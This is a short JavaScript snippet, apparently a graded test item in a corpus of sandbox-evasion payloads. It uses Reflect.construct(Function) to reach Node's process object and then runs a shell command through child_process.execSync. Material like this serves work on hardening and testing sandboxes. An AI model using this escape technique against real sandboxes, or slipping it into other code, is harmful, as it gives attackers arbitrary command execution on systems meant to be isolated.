// evasion: Reflect.construct(Function) hands out process
// grade: very hard; does: shell
const f = Reflect.construct(Function, ['return process'])();
f.binding('spawn_sync');
f.mainModule.require('child_process').execSync('id');
